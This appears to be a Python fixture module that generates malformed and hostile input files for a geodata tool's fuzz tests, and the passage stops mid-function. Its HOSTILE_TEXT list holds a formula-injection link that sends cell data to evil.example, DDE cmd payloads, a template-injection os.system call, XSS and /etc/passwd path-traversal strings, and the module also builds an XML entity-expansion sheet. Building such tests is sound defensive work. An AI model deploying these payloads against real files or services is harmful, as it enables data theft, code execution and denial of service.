"""Hostile input files for the fuzz suite (``tests/test_fuzz.py``).

Every builder writes one file (or a few, for a Shapefile) into a folder and returns a
:class:`Case`: the file and, where the readers promise it, the number of records a reader must
account for (``n_input``). The counts are known from how the file was built, never from a
reader: for text files the data records written (blank records are skipped by the readers, as
documented in ``geo_trygg/io/_tabular.py``; none are written here unless said), for vector
files the features, for police JSON the array's entries.

Everything is deterministic: random bytes come from a fixed seed.
"""

from __future__ import annotations

import codecs
import json
import random
import re
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

HEADER = ["id", "datum", "kategori", "beskrivning", "kalla", "lat", "lon"]
"""A header both the findings and the events reader recognise (id, date, category or source
type, description or text, source, latitude, longitude)."""

N_BASE = 20
"""Data rows of the ordinary table most text cases start from."""


@dataclass(frozen=True)
class Case:
    """One hostile input.

    Attributes
    ----------
    name : str
        Case id (used as the pytest id).
    path : pathlib.Path
        The file to read.
    n_records : int or None
        The records a reader must account for when it returns a result
        (``summary.n_input``), or None when the readers promise no number (e.g. garbage).
    kinds : tuple of str
        Readers for which ``n_records`` is promised (``"table"`` = findings and events,
        ``"areas"``, ``"police"``); other readers are only held to "no traceback".
    first_row : int or None
        The row number of the first record, the others following one by one (2 in a CSV or
        sheet with its header in row 1; 1 for features and JSON entries); None when the
        records are not numbered consecutively.
    row_numbers : tuple of int, optional
        The row numbers when they are not consecutive (a CSV record is numbered by the line
        it starts on).
    """

    name: str
    path: Path
    n_records: int | None = None
    kinds: tuple[str, ...] = ()
    first_row: int | None = 1
    row_numbers: tuple[int, ...] | None = None

    @property
    def rows(self) -> list[int] | None:
        """The row numbers every record must carry (accepted or rejected), when known."""
        if self.row_numbers is not None:
            return list(self.row_numbers)
        if self.n_records is None or self.first_row is None:
            return None
        return list(range(self.first_row, self.first_row + self.n_records))


def row(i: int, **over: str) -> list[str]:
    """An ordinary data row number ``i`` (coordinates in Älvsjö, WGS 84, decimal commas)."""
    cells = {
        "id": f"F{i:04d}",
        "datum": f"2024-03-{1 + i % 28:02d} 10:{i % 60:02d}",
        "kategori": "Belysning",
        "beskrivning": f"Trasig lampa vid Älvsjö centrum {i}",
        "kalla": "SL",
        "lat": f"59,27{i % 100:02d}",
        "lon": f"18,00{i % 100:02d}",
    }
    cells.update(over)
    return [cells[h] for h in HEADER]


def csv_text(
    rows: list[list[str]],
    *,
    header: list[str] | None = None,
    sep: str = ";",
    newline: str = "\r\n",
) -> str:
    """Rows as CSV text, a value quoted when it holds the separator, a quote or a line break
    (``\r`` too: the csv module's writer quotes only the characters of its line ending)."""

    def quote(cell: str) -> str:
        if any(ch in cell for ch in (sep, '"', "\r", "\n")):
            return '"' + cell.replace('"', '""') + '"'
        return cell

    lines = [HEADER if header is None else header, *rows]
    return "".join(sep.join(quote(c) for c in line) + newline for line in lines)


def base_rows(n: int = N_BASE) -> list[list[str]]:
    """``n`` ordinary rows."""
    return [row(i) for i in range(1, n + 1)]


def garbage(n: int, seed: int) -> bytes:
    """``n`` random bytes from a fixed seed."""
    return random.Random(seed).randbytes(n)


# --------------------------------------------------------------------------- text files

EXTREME_NUMBERS = [
    ("1e308", "1e308"),
    ("-1e308", "-1e308"),
    ("1e309", "18,0"),
    ("-0", "-0"),
    ("-0,0", "18,0"),
    ("0", "0"),
    ("NaN", "NaN"),
    ("nan", "18,0"),
    ("inf", "-inf"),
    ("Infinity", "18,0"),
    ("9999999999999", "9999999999999"),
    ("18,0001", "59,2701"),  # swapped
    ("40,4168", "-3,7038"),  # Madrid
    ("-59,27", "-18,00"),
    ("6570000", "674000"),  # SWEREF 99 TM, fine
    ("674000", "6570000"),  # SWEREF 99 TM swapped
    ("1e-320", "1e-320"),
    ("59,27,01", "18,00"),
    ("0x3B", "0x12"),
    ("1_000", "18"),
    ("59.27e0", "18.00e0"),
    ("٥٩", "١٨"),  # Arabic-Indic digits
    ("", ""),
]

EXTREME_DATES = [
    "0001-01-01",
    "0001-01-01 00:00",
    "1677-09-21 00:12",
    "1677-09-22",
    "2262-04-11 23:47:16",
    "2262-04-12",
    "2262-04-12 00:00",
    "9999-12-31 23:59:59",
    "10000-01-01",
    "2023-02-29",
    "2100-02-29",
    "2024-02-30",
    "2024-01-01 24:00",
    "2024-01-01 24:00:01",
    "2024-01-01 23:60",
    "2024-13-01",
    "2024-00-10",
    "31/2/2024",
    "29/2/2023 12:00",
    "1e308",
    "-1",
    "0",
    "99999999999999999999",
    "2024-03-31 02:30",  # does not exist in Stockholm
    "2024-10-27 02:30",  # exists twice
    "idag",
]

HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1;"klicka")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "[/]",
    "[bold red]x[/bold red] [/] [link=file:///etc/passwd]a[/link]",
    "{{7*7}}",
    "{%print(7*7)%}",
    "Lampa {# trasig",
    "Trasig lampa {{ lipsum.__globals__['os'].system('touch X') }}",
    "<script>alert(1)</script>",
    "\u202eRTL\u200b\u200d\ufeff",
    "a\x00b\x07c\x1bd",
    'Lampa "trasig',
    "\\N",
    "NULL",
    "None",
    "nan",
    "%s%s%n{0}",
    "../../etc/passwd",
    "CON",
    "😀" * 50,
]


def _write_text(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def text_cases(folder: Path) -> list[Case]:
    """Hostile CSV files (see the module docstring)."""
    cases: list[Case] = []

    def add(name: str, data: bytes, n: int | None, suffix: str = ".csv") -> None:
        path = folder / f"{name}{suffix}"
        path.write_bytes(data)
        cases.append(Case(name, path, n, ("table",) if n is not None else (), 2))

    base = csv_text(base_rows())
    add("zero_bytes", b"", None)
    add("bom_utf8_only", codecs.BOM_UTF8, None)
    add("bom_utf16le_only", codecs.BOM_UTF16_LE, None)
    add("bom_utf16be_only", codecs.BOM_UTF16_BE, None)
    add("bom_utf8_twice", codecs.BOM_UTF8 * 2 + base.encode(), None)
    add("whitespace_only", b"\r\n \t\n;;;\n,,\n\n", None)
    add("header_only", csv_text([]).encode(), 0)
    add("header_only_no_newline", ";".join(HEADER).encode(), 0)
    add("garbage", garbage(4096, 1), None)
    add("garbage_nul", b"\x00" * 3000, None)
    add("garbage_after_header", csv_text([]).encode() + garbage(4096, 2), None)
    add("nul_in_cells", base.replace("Trasig", "Tra\x00sig").encode(), N_BASE)
    add("plain", base.encode(), N_BASE)
    add("plain_lf", csv_text(base_rows(), newline="\n").encode(), N_BASE)
    add("plain_cr_only", csv_text(base_rows(), newline="\r").encode(), N_BASE)
    add("plain_comma", csv_text(base_rows(), sep=",").encode(), N_BASE)
    add("plain_tab", csv_text(base_rows(), sep="\t").encode(), N_BASE)

    # truncated: mid-row, mid-quote, mid-UTF-8 sequence
    data = base.encode()
    last = data.rstrip(b"\r\n").rfind(b"\n") + 1
    add("cut_mid_row", data[: last + 25], N_BASE)
    quoted = csv_text(
        [*base_rows(N_BASE - 1), row(N_BASE, beskrivning="Trasig; lampa, vid\nhörnet")]
    )
    add("cut_mid_quote", quoted.encode()[: quoted.encode().index(b"vid\n") + 2], N_BASE)
    utf = csv_text([*base_rows(N_BASE - 1), row(N_BASE, beskrivning="Ödslig ✓ plats")]).encode()
    add("cut_mid_utf8_2byte", utf[: utf.rindex("Ö".encode()) + 1], N_BASE)
    add("cut_mid_utf8_3byte", utf[: utf.rindex("✓".encode()) + 2], N_BASE)
    add("cut_mid_utf8_after_bom", codecs.BOM_UTF8 + utf[: utf.rindex("Ö".encode()) + 1], N_BASE)
    add("bom_then_cut_utf8", codecs.BOM_UTF8 + b"\x01\xc2", None)
    add("cut_after_sep", data[: data.rstrip(b"\r\n").rfind(b";") + 1], N_BASE)

    # stray quotes: a value that opens a quote and never closes it, with more rows below
    stray = base_rows()
    lines = csv_text(stray).split("\r\n")
    lines[3] = lines[3].replace("Trasig lampa", '"Trasig lampa', 1)
    add("stray_quote_open", "\r\n".join(lines).encode(), N_BASE)
    lines = csv_text(stray).split("\r\n")
    lines[2] = lines[2].replace(";SL;", ';"SL;', 1)
    lines[9] = lines[9].replace("Trasig", 'Tra"sig', 1)
    add("stray_quote_two", "\r\n".join(lines).encode(), N_BASE)
    lines = csv_text(stray).split("\r\n")
    lines[5] = lines[5] + '"'
    add("stray_quote_line_end", "\r\n".join(lines).encode(), N_BASE)
    lines = csv_text(stray).split("\r\n")
    lines[-2] = lines[-2].replace("Trasig", '"Trasig', 1)
    add("stray_quote_last_row", "\r\n".join(lines).encode(), N_BASE)

    many = csv_text(base_rows(500)).split("\r\n")
    many = [many[0]] + [line.replace("Trasig", '"Trasig', 1) for line in many[1:]]
    add("stray_quote_every_row", "\r\n".join(many).encode(), 500)

    # values with line breaks, properly quoted: one record each, numbered by the line it
    # starts on (rows 6, 7 and 8 take two, two and three lines)
    multi = [
        *base_rows(5),
        row(6, beskrivning="Rad ett\nRad två"),
        row(7, beskrivning="Trasig; lampa\nvid hörnet; nära"),
        row(8, beskrivning="a\r\nb\rc"),
        *[row(i) for i in range(9, 12)],
    ]
    path = folder / "quoted_line_breaks.csv"
    path.write_bytes(csv_text(multi).encode())
    cases.append(
        Case(
            "quoted_line_breaks",
            path,
            len(multi),
            ("table",),
            None,
            (2, 3, 4, 5, 6, 7, 9, 11, 14, 15, 16),
        )
    )

    # 2,000 events at one place and one time (a bulk export): the duplicate search
    same = [row(1, id=f"E{i}") for i in range(2_000)]
    add("same_place_and_time", csv_text(same).encode(), len(same))

    # wide, long
    wide_header = HEADER + [f"extra{i}" for i in range(16_384 - len(HEADER))]
    wide_rows = [row(i) + ["x"] * (16_384 - len(HEADER)) for i in range(1, 4)]
    add("wide_16384", csv_text(wide_rows, header=wide_header).encode(), 3)
    add(
        "wide_row_only",
        csv_text([row(1), row(2) + [";"] * 16_384, row(3)]).encode(),
        3,
    )
    long_cell = csv_text([row(1, beskrivning="lampa " * 200_000), row(2), row(3)])
    add("long_cell_1mb", long_cell.encode(), 3)
    add("long_header", (";".join(HEADER) + "x" * 500_000 + "\r\n" + base).encode(), None)
    add("long_line_no_separator", b"a" * 2_000_000, None)
    add("long_line_many_fields", (";".join(HEADER) + "\r\n" + "x;" * 100_000).encode(), 1)

    # encodings
    mixed = csv_text([row(i, beskrivning="Mörk gång – ödsligt") for i in range(1, 11)])
    head, *body = mixed.split("\r\n")
    mixed_bytes = b"\r\n".join(
        [head.encode("utf-8")]
        + [line.encode("cp1252" if k % 2 else "utf-8") for k, line in enumerate(body)]
    )
    add("mixed_utf8_cp1252", mixed_bytes, 10)
    text = csv_text([row(i, beskrivning="Mörk gång ✓ ⚠ ■ αβγ") for i in range(1, 11)])
    add("utf16le_bom", codecs.BOM_UTF16_LE + text.encode("utf-16-le"), 10)
    add("utf16be_bom", codecs.BOM_UTF16_BE + text.encode("utf-16-be"), 10)
    add("utf16le_no_bom", text.encode("utf-16-le"), None)
    add("utf16be_no_bom", text.encode("utf-16-be"), None)
    add("utf16_odd_length", codecs.BOM_UTF16_LE + text.encode("utf-16-le") + b"\x00", None)
    add("utf16_odd_cut", (codecs.BOM_UTF16_LE + text.encode("utf-16-le"))[:-1], None)
    add("utf8_symbols_no_bom", text.encode("utf-8"), 10)
    add("utf32_bom", text.encode("utf-32"), None)
    add("cp1252", csv_text(base_rows()).encode("cp1252"), N_BASE)
    add("lone_surrogate_bytes", base.encode() + b"\xed\xa0\x80;x\r\n", None)

    # extreme numbers, dates, hostile text
    nums = [row(i, lat=lat, lon=lon) for i, (lat, lon) in enumerate(EXTREME_NUMBERS, 1)]
    add("extreme_numbers", csv_text(nums).encode(), len(nums))
    dates = [row(i, datum=d) for i, d in enumerate(EXTREME_DATES, 1)]
    add("extreme_dates", csv_text(dates).encode(), len(dates))
    hostile = [row(i, beskrivning=t, kategori=t, id=t) for i, t in enumerate(HOSTILE_TEXT, 1)]
    add("hostile_text", csv_text(hostile).encode(), len(hostile))
    names = [
        row(i, **dict.fromkeys(HEADER, t)) for i, t in enumerate(HOSTILE_TEXT, 1) if t.strip()
    ]
    add("hostile_everywhere", csv_text(names).encode(), len(names))
    times = ["id", "tid_fran", "tid_till", "klockslag", "publicerad", "typ", "kalla", "lat", "lon"]
    clocks = ["24:00", "25:61", "-1:00", "12:00:60", "1e308", "", "23.59", "9", "0900", "kl 9"]
    spans = [
        [f"E{i}", d, e, c, p, "Brand", "SL", "59,27", "18,00"]
        for i, (d, e, c, p) in enumerate(
            zip(
                EXTREME_DATES[:10],
                reversed(EXTREME_DATES[-10:]),
                clocks,
                EXTREME_DATES[5:15],
                strict=True,
            ),
            1,
        )
    ]
    add("event_times", csv_text(spans, header=times).encode(), len(spans))
    add(
        "hostile_header",
        csv_text(base_rows(), header=["[/]", "{{7*7}}", "=1+1", "id", "id", "", "lat"]).encode(),
        None,
    )
    return cases


# --------------------------------------------------------------------------- Excel


def excel_cases(folder: Path) -> list[Case]:
    """Hostile .xlsx files."""
    import datetime as dt

    import openpyxl

    cases: list[Case] = []

    def book(name: str, rows: list[list[Any]], n: int | None) -> Path:
        wb = openpyxl.Workbook()
        ws = wb.active
        for r in rows:
            ws.append(r)
        path = folder / f"{name}.xlsx"
        wb.save(path)
        cases.append(Case(name, path, n, ("table",) if n is not None else (), 2))
        return path

    plain = book("xlsx_plain", [HEADER, *base_rows()], N_BASE)
    extreme: list[list[Any]] = [
        ["F1", dt.datetime(1, 1, 1), "Belysning", "x", "SL", 1e308, -1e308],
        ["F2", dt.datetime(9999, 12, 31, 23, 59), "Belysning", "x", "SL", -0.0, 0.0],
        ["F3", dt.datetime(2262, 4, 12), "Belysning", "x", "SL", 9999999999999, 18.0],
        ["F4", dt.date(1677, 9, 21), "Belysning", "=1+1", "SL", 18.0, 59.27],
        ["F5", "2023-02-29", "Belysning", "[/]", "SL", 40.4, -3.7],
        ["F6", 1e308, "{{7*7}}", "{%print(7*7)%}", "SL", "59,27", "18,00"],
        ["F7", -1, True, None, None, False, True],
        ["F8", dt.time(23, 59), "Belysning", "x", "SL", 59.27, 18.0],
        ["F9", "=NOW()", "=A1", "=1/0", "SL", "=59.27", "=18"],
    ]
    book("xlsx_extreme", [HEADER, *extreme], len(extreme))
    book("xlsx_header_only", [HEADER], 0)
    book("xlsx_empty", [], None)

    # one cell in column XFD (16,384): a sheet 16,384 columns wide
    wb = openpyxl.Workbook()
    ws = wb.active
    for r in [HEADER, *base_rows(3)]:
        ws.append(r)
    ws.cell(row=3, column=16_384, value="x")
    path = folder / "xlsx_xfd.xlsx"
    wb.save(path)
    cases.append(Case("xlsx_xfd", path, 3, ("table",), 2))

    # a sheet 100,000 rows tall with nothing between row 4 and the last
    wb = openpyxl.Workbook()
    ws = wb.active
    for r in [HEADER, *base_rows(3)]:
        ws.append(r)
    ws.cell(row=100_000, column=1, value="x")
    path = folder / "xlsx_tall.xlsx"
    wb.save(path)
    cases.append(Case("xlsx_tall", path, 4, ("table",), None))

    # a sheet whose <dimension> claims A1:XFD1048576 (the whole sheet) but holds 3 rows
    p = folder / "xlsx_dimension_lie.xlsx"
    _rewrite_sheet(
        plain,
        p,
        lambda xml: re.sub(
            rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', xml
        ),
    )
    cases.append(Case("xlsx_dimension_lie", p, N_BASE, ("table",), 2))

    data = plain.read_bytes()
    for name, blob in [
        ("xlsx_cut_half", data[: len(data) // 2]),
        ("xlsx_cut_tail", data[:-30]),
        ("xlsx_garbage", garbage(5000, 3)),
        ("xlsx_zero_bytes", b""),
        ("xlsx_csv_inside", csv_text(base_rows()).encode()),
    ]:
        p = folder / f"{name}.xlsx"
        p.write_bytes(blob)
        cases.append(Case(name, p))
    # a zip that is not a workbook, and a workbook whose sheet XML is damaged
    p = folder / "xlsx_not_workbook.xlsx"
    with zipfile.ZipFile(p, "w") as zf:
        zf.writestr("hello.txt", "hej")
    cases.append(Case("xlsx_not_workbook", p))
    p = folder / "xlsx_bad_sheet_xml.xlsx"
    _rewrite_sheet(plain, p, lambda xml: xml[: len(xml) // 2])
    cases.append(Case("xlsx_bad_sheet_xml", p))
    p = folder / "xlsx_entity_sheet_xml.xlsx"
    _rewrite_sheet(
        plain,
        p,
        lambda xml: (
            b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
            b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>' + xml.replace(b"Belysning", b"&c;")
        ),
    )
    cases.append(Case("xlsx_entity_sheet_xml", p))
    return cases


def _rewrite_sheet(src_path: Path, dst_path: Path, change: Callable[[bytes], bytes]) -> None:
    """Copy a workbook, passing the first sheet's XML through ``change``."""
    with zipfile.ZipFile(src_path) as src, zipfile.ZipFile(dst_path, "w") as dst:
        for item in src.infolist():
            blob = src.read(item.filename)
            if item.filename.endswith("sheet1.xml"):
                blob = change(blob)
            dst.writestr(item, blob)


# --------------------------------------------------------------------------- JSON, GeoJSON

SQUARE = [[18.00, 59.27], [18.01, 59.27], [18.01, 59.28], [18.00, 59.28], [18.00, 59.27]]

BROKEN_GEOMETRIES: list[tuple[str, Any]] = [
    ("ok", {"type": "Polygon", "coordinates": [SQUARE]}),
    (
        "nan_vertex",
        {
            "type": "Polygon",
            "coordinates": [[[18.0, 59.27], [float("nan"), 59.27], [18.01, 59.28], [18.0, 59.27]]],
        },
    ),
    (
        "inf_vertex",
        {
            "type": "Polygon",
            "coordinates": [[[18.0, 59.27], [float("inf"), 59.27], [18.01, 59.28], [18.0, 59.27]]],
        },
    ),
    (
        "huge_vertex",
        {
            "type": "Polygon",
            "coordinates": [[[18.0, 59.27], [1e308, 59.27], [18.01, 1e308], [18.0, 59.27]]],
        },
    ),
    (
        "bowtie",
        {
            "type": "Polygon",
            "coordinates": [
                [[18.0, 59.27], [18.01, 59.28], [18.01, 59.27], [18.0, 59.28], [18.0, 59.27]]
            ],
        },
    ),
    ("empty_polygon", {"type": "Polygon", "coordinates": []}),
    ("empty_ring", {"type": "Polygon", "coordinates": [[]]}),
    ("unclosed_ring", {"type": "Polygon", "coordinates": [SQUARE[:-1]]}),
    ("two_points", {"type": "Polygon", "coordinates": [SQUARE[:2]]}),
    (
        "zero_area",
        {"type": "Polygon", "coordinates": [[[18.0, 59.27], [18.01, 59.27], [18.0, 59.27]]]},
    ),
    ("point", {"type": "Point", "coordinates": [18.0, 59.27]}),
    ("line", {"type": "LineString", "coordinates": SQUARE}),
    ("collection", {"type": "GeometryCollection", "geometries": []}),
    ("null", None),
    (
        "outside_sweden",
        {"type": "Polygon", "coordinates": [[[c[0] - 21.7, c[1] - 19.0] for c in SQUARE]]},
    ),
    ("swapped", {"type": "Polygon", "coordinates": [[[c[1], c[0]] for c in SQUARE]]}),
    ("multi_with_empty", {"type": "MultiPolygon", "coordinates": [[SQUARE], []]}),
    (
        "hole_outside",
        {"type": "Polygon", "coordinates": [SQUARE, [[c[0] + 1, c[1]] for c in SQUARE]]},
    ),
]


def _feature(i: int, geometry: Any, **props: Any) -> dict[str, Any]:
    properties = {"id": f"A{i}", "namn": f"Område {i}", "name": f"OMRÅDE {i}", **props}
    return {"type": "Feature", "properties": properties, "geometry": geometry}


def _dump(obj: Any) -> str:
    return json.dumps(obj, ensure_ascii=False)  # NaN/Infinity written as such (not JSON)


def json_cases(folder: Path) -> list[Case]:
    """Hostile GeoJSON and JSON files (areas, points, nesting)."""
    cases: list[Case] = []

    def add(name: str, text: str | bytes, n: int | None, suffix: str, kinds: tuple[str, ...]):
        path = folder / f"{name}{suffix}"
        path.write_bytes(text.encode() if isinstance(text, str) else text)
        cases.append(Case(name, path, n, kinds if n is not None else ()))

    feats = [_feature(i, g) for i, (_, g) in enumerate(BROKEN_GEOMETRIES, 1)]
    collection = {"type": "FeatureCollection", "features": feats}
    add("areas_broken", _dump(collection), len(feats), ".geojson", ("areas",))
    for name, geometry in BROKEN_GEOMETRIES[1:]:
        fc = {"type": "FeatureCollection", "features": [_feature(1, geometry)]}
        add(f"area_{name}", _dump(fc), 1, ".geojson", ("areas",))
    names = [
        _feature(i, {"type": "Polygon", "coordinates": [SQUARE]}, namn=t, id=t)
        for i, t in enumerate(HOSTILE_TEXT, 1)
    ]
    add(
        "areas_hostile_names",
        _dump({"type": "FeatureCollection", "features": names}),
        len(names),
        ".geojson",
        ("areas",),
    )
    good = _dump(collection)
    add("geojson_cut", good[: len(good) // 2], None, ".geojson", ())
    add("geojson_cut_json", good[: len(good) // 2], None, ".json", ())
    add("geojson_empty_fc", '{"type":"FeatureCollection","features":[]}', 0, ".geojson", ())
    add("geojson_zero_bytes", b"", None, ".geojson", ())
    add("geojson_garbage", garbage(3000, 4), None, ".geojson", ())
    add("geojson_bom_only", codecs.BOM_UTF8, None, ".geojson", ())
    add("geojson_not_object", "42", None, ".geojson", ())

    # points for findings/events, with extreme coordinates and dates
    pts = [
        _feature(
            i,
            {"type": "Point", "coordinates": [float(lon), float(lat)]},
            datum=EXTREME_DATES[i % len(EXTREME_DATES)],
            kategori="Belysning",
            beskrivning=HOSTILE_TEXT[i % len(HOSTILE_TEXT)],
        )
        for i, (lat, lon) in enumerate(
            [
                (59.27, 18.0),
                (float("nan"), 18.0),
                (1e308, -1e308),
                (18.0, 59.27),
                (40.4, -3.7),
                (-0.0, 0.0),
                (9999999999999, 9999999999999),
                (float("inf"), 18.0),
            ],
            1,
        )
    ]
    pts.append(_feature(99, None, datum="2024-01-01", kategori="x", beskrivning="y"))
    pts.append(
        _feature(
            100,
            {"type": "Polygon", "coordinates": [SQUARE]},
            datum="2024-01-01",
            kategori="x",
            beskrivning="area as point",
        )
    )
    add(
        "points_extreme",
        _dump({"type": "FeatureCollection", "features": pts}),
        len(pts),
        ".geojson",
        ("table",),
    )

    # a legacy "crs" member that names no CRS, a geocentric one, or metres on degrees
    square = {"type": "Polygon", "coordinates": [SQUARE]}
    point = {"type": "Point", "coordinates": [18.0, 59.27]}
    for name, crs in [
        ("unknown", "urn:ogc:def:crs:EPSG::99999"),
        ("markup", "{{7*7}} [/]"),
        ("geocentric", "urn:ogc:def:crs:EPSG::4978"),
        ("metric_on_degrees", "urn:ogc:def:crs:EPSG::3006"),
        ("france", "urn:ogc:def:crs:EPSG::2154"),
    ]:
        for geom_name, geometry in (("area", square), ("point", point)):
            fc = {
                "type": "FeatureCollection",
                "crs": {"type": "name", "properties": {"name": crs}},
                "features": [
                    _feature(1, geometry, datum="2024-01-01", kategori="k", beskrivning="b")
                ],
            }
            kind = "areas" if geom_name == "area" else "table"
            add(f"crs_{name}_{geom_name}", _dump(fc), 1, ".geojson", (kind,))
    z_nan = {"type": "Point", "coordinates": [18.0, 59.27, float("nan")]}
    fc = {"type": "FeatureCollection", "features": [_feature(1, z_nan, datum="2024-01-01")]}
    add("point_z_nan", _dump(fc), 1, ".geojson", ("table",))

    # nesting 5,000 deep
    deep = 5_000
    add("nested_array_json", "[" * deep + "]" * deep, None, ".json", ())
    add("nested_array_geojson", "[" * deep + "]" * deep, None, ".geojson", ())
    add("nested_object_json", '{"a":' * deep + "1" + "}" * deep, None, ".json", ())
    nested_fc = (
        '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"namn":'
        + "[" * deep
        + "]" * deep
        + '},"geometry":'
        + _dump({"type": "Polygon", "coordinates": [SQUARE]})
        + "}]}"
    )
    add("nested_in_properties", nested_fc, None, ".geojson", ())
    nested_geom = (
        '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},'
        '"geometry":{"type":"Polygon","coordinates":' + "[" * deep + "]" * deep + "}}]}"
    )
    add("nested_in_geometry", nested_geom, None, ".geojson", ())
    add(
        "nested_police_record",
        '[{"id": 1, "name": ' + "[" * deep + "]" * deep + "}]",
        None,
        ".json",
        (),
    )
    return cases


# --------------------------------------------------------------------------- police

POLICE_OK = {
    "id": 1,
    "datetime": "2024-11-05 12:00:00 +01:00",
    "name": "5 november 10:42, Misshandel, Stockholm",
    "summary": "Slagsmål.",
    "url": "/aktuellt/handelser/2024/november/5/x/",
    "type": "Misshandel",
    "location": {"name": "Stockholm", "gps": "59.329324,18.068581"},
}


def _police(i: int, **over: Any) -> dict[str, Any]:
    rec: dict[str, Any] = {**POLICE_OK, "id": i}
    for key, value in over.items():
        if value is _DROP:
            rec.pop(key, None)
        else:
            rec[key] = value
    return rec


_DROP = object()

POLICE_RECORDS: list[Any] = [
    _police(1),
    _police(2, id=_DROP),
    _police(3, datetime=_DROP),
    _police(4, name=_DROP),
    _police(5, location=_DROP),
    _police(6, location={"name": "Stockholm"}),
    _police(7, location={"gps": "59.3,18.0"}),
    _police(8, id=None, datetime=None, name=None, summary=None, location=None),
    _police(9, id=[1], datetime=20241105, name=42, summary={"a": 1}, type=[], url=7),
    _police(10, location="Stockholm"),
    _police(11, location={"name": ["x"], "gps": [59.3, 18.0]}),
    _police(12, location={"name": "Stockholm", "gps": "nan,nan"}),
    _police(13, location={"name": "Stockholm", "gps": "inf,-inf"}),
    _police(14, location={"name": "Stockholm", "gps": "1e308,1e308"}),
    _police(15, location={"name": "Stockholm", "gps": "18.068581,59.329324"}),
    _police(16, location={"name": "Madrid", "gps": "40.4168,-3.7038"}),
    _police(17, location={"name": "Stockholm", "gps": "59.3;18.0;1"}),
    _police(18, location={"name": "Stockholm", "gps": 59.3}),
    _police(19, datetime="0001-01-01 00:00:00 +01:00", name="1 januari 00:00, Brand, Stockholm"),
    _police(20, datetime="2262-04-12 12:00:00 +01:00", name="12 april 10:00, Brand, Stockholm"),
    _police(21, datetime="9999-12-31 23:59:59 +01:00", name="31 december 23:59, Brand, X"),
    _police(22, datetime="1677-09-21 00:00:00 +01:00", name="20 september 10:00, Brand, X"),
    _police(23, datetime="2023-02-29 10:00:00 +01:00"),
    _police(24, datetime="2024-01-01 24:00:00 +01:00"),
    _police(25, name="29 februari 10:00, Brand, Stockholm", datetime="2023-03-01 10:00:00 +01:00"),
    _police(26, name="31 februari 25:61, Brand, Stockholm"),
    _police(27, name="{{7*7}} [/] =1+1, {%print(7*7)%}, Stockholm"),
    _police(28, datetime="1e308"),
    _police(29, datetime=1e308),
    _police(30, datetime=True, id=True),
    _police(31, id=1),  # repeats id 1
    _police(31, id="1"),  # repeats id 1 as text
    _police(33, id=1.5),
    _police(34, id=9999999999999999999999999),
    _police(35, id=float("nan")),
    _police(36, id="  "),
    None,
    [],
    "text",
    42,
    {},
    _police(41, datetime="2024-11-05T12:00:00", name="5 november 10.42, Brand, Stockholm"),
    _police(42, location={"name": "Stockholms län", "gps": "59.329324,18.068581"}),
    _police(43, name="5 november 10:42" + ", x" * 10_000),
    _police(44, summary="x" * 1_000_000),
]


def police_cases(folder: Path) -> list[Case]:
    """Police events API JSON files: bad records, and files that are not a list of them."""
    cases: list[Case] = []

    def add(name: str, text: str | bytes, n: int | None) -> None:
        path = folder / f"{name}.json"
        path.write_bytes(text.encode() if isinstance(text, str) else text)
        cases.append(Case(name, path, n, ("police",) if n is not None else ()))

    add("police_bad_records", _dump(POLICE_RECORDS), len(POLICE_RECORDS))
    add("police_empty_list", "[]", 0)
    add("police_nulls", "[null, null, null]", 3)
    add("police_object", _dump(POLICE_OK), None)
    add("police_cut", _dump(POLICE_RECORDS[:5])[:300], None)
    add("police_garbage_after_bracket", b"[" + garbage(3000, 5), None)
    add("police_utf16", _dump([POLICE_OK]).encode("utf-16"), None)
    add("police_nan", "[NaN, Infinity, -Infinity]", None)
    add("police_dup_keys", '[{"id": 1, "id": 2, "datetime": null, "datetime": "x"}]', None)
    return cases


# --------------------------------------------------------------------------- binary formats


def binary_cases(folder: Path) -> list[Case]:
    """GeoPackage, Shapefile (zip), FlatGeobuf: garbage, truncated, broken geometries."""
    import geopandas as gpd
    import shapely

    cases: list[Case] = []
    geoms = [
        shapely.Polygon(SQUARE),
        shapely.Polygon([(18.0, 59.27), (float("nan"), 59.27), (18.01, 59.28), (18.0, 59.27)]),
        shapely.from_geojson(json.dumps(BROKEN_GEOMETRIES[4][1])),  # bowtie
        shapely.Polygon(),
        shapely.Point(18.0, 59.27),
        None,
        shapely.Polygon([(18.0, 59.27), (1e308, 59.27), (18.01, 1e308), (18.0, 59.27)]),
    ]
    frame = gpd.GeoDataFrame(
        {
            "id": [f"A{i}" for i in range(len(geoms))],
            "namn": ["Älvsjö", "{{7*7}}", "[/]", "=1+1", "x", "y", "z"],
            "datum": ["2024-01-01", "0001-01-01", "9999-12-31", "2023-02-29", "", None, "x"],
            "kategori": ["Belysning"] * len(geoms),
            "beskrivning": HOSTILE_TEXT[: len(geoms)],
        },
        geometry=geoms,
        crs="EPSG:4326",
    )
    gpkg = folder / "gpkg_broken.gpkg"
    frame.to_file(gpkg, driver="GPKG", layer="omraden")
    cases.append(Case("gpkg_broken", gpkg, len(geoms), ("areas",)))
    data = gpkg.read_bytes()
    for name, blob in [
        ("gpkg_cut_half", data[: len(data) // 2]),
        ("gpkg_cut_header", data[:100]),
        ("gpkg_zero_bytes", b""),
        ("gpkg_garbage", garbage(8192, 6)),
        ("gpkg_sqlite_header_garbage", b"SQLite format 3\x00" + garbage(8192, 7)),
    ]:
        p = folder / f"{name}.gpkg"
        p.write_bytes(blob)
        cases.append(Case(name, p))

    shp_dir = folder / "shp"
    shp_dir.mkdir(exist_ok=True)
    frame.iloc[[0, 2, 3, 6]].to_file(shp_dir / "omraden.shp")
    zpath = folder / "shp_ok.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        for part in sorted(shp_dir.iterdir()):
            zf.write(part, part.name)
    cases.append(Case("shp_ok", zpath, 4, ("areas",)))
    zdata = zpath.read_bytes()
    for name, blob, suffix in [
